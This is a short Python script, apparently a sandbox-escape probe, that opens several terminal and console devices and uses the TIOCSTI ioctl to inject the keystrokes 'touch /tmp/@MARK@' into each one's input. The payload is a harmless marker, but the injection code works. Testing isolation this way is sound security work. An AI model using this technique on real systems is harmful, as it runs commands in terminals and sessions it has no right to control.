import fcntl
import os
import termios

for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/dev/ptmx", "/dev/pts/0", "/proc/self/fd/0", "/proc/self/fd/1"):
    try:
        fd = os.open(path, os.O_RDWR)
        for sign in b"touch /tmp/@MARK@\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([sign]))
    except OSError:
        pass
